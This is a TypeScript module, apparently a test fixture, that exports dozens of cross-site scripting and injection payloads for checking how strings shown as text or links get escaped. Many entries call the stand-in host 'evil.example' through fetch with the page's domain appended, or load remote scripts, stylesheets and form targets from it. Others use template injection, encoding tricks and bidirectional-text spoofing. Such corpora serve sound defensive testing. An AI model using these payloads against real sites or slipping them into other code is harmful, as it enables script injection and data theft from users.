/** Where every request of a payload that works would go. */
export const HOSTILE_HOST = 'evil.example'

const call = `fetch('https://${HOSTILE_HOST}/'+document.domain),alert(1)`

/** Ways to get a script run, a request sent, or the page rebuilt, from a string that is shown as text or as a link. */
export const payloads: readonly string[] = [
  // Elements
  `<script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `</textarea></noscript></template><script>${call}</script>`,
  `<ScRiPt src=//${HOSTILE_HOST}/x.js></sCrIpT>`,
  `<img src=x onerror="${call}">`,
  `<img src=https://${HOSTILE_HOST}/pixel.png>`,
  `<svg onload="${call}">`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin="${call}" attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${call}">`,
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="https://${HOSTILE_HOST}/x.swf">`,
  `<details open ontoggle="${call}">`,
  `<video><source onerror="${call}"></video>`,
  `<body onload="${call}">`,
  `<input autofocus onfocus="${call}">`,
  `<form action="https://${HOSTILE_HOST}/"><button>Send</button></form>`,
  `<base href="https://${HOSTILE_HOST}/">`,
  `<meta http-equiv="refresh" content="0;url=https://${HOSTILE_HOST}/">`,
  `<link rel=stylesheet href="https://${HOSTILE_HOST}/x.css">`,
  `<style>@import 'https://${HOSTILE_HOST}/x.css';*{display:none}</style>`,
  // Out of an attribute
  `" onmouseover="${call}" autofocus onfocus="${call}" x="`,
  `' onmouseover='${call}' autofocus onfocus='${call}' x='`,
  `"><script>${call}</script>`,
  `'><img src=x onerror=alert(1)>`,
  '` onerror=alert(1) `',
  // Addresses
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  ` javascript:${call}`,
  `java\tscript:${call}`,
  `\u0001javascript:${call}`,
  `javascript://example.org/%0A${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:image/svg+xml,<svg onload="${call}" xmlns="http://www.w3.org/2000/svg"/>`,
  `vbscript:msgbox(1)`,
  `https://example.org@${HOSTILE_HOST}/`,
  `https://${HOSTILE_HOST}/"onmouseover="${call}`,
  `https://${HOSTILE_HOST}/picture.png`,
  `http://${HOSTILE_HOST}/picture.png`,
  `//${HOSTILE_HOST}/x`,
  `\\\\${HOSTILE_HOST}\\x`,
  // Templates and interpolation
  `<%= process.exit() %><%~ '<script>alert(1)</script>' %>`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it must arrive as it is.
  '${alert(1)}{{constructor.constructor("alert(1)")()}}',
  '{{page}} $t(page.wordmark)',
  // Entities and encodings
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\u2028\u2029<script>alert(1)</script>',
  // Reading order
  '\u202egnp.exe\u202c\u2066\u2067\u200f',
  'constructor',
  '__proto__',
]
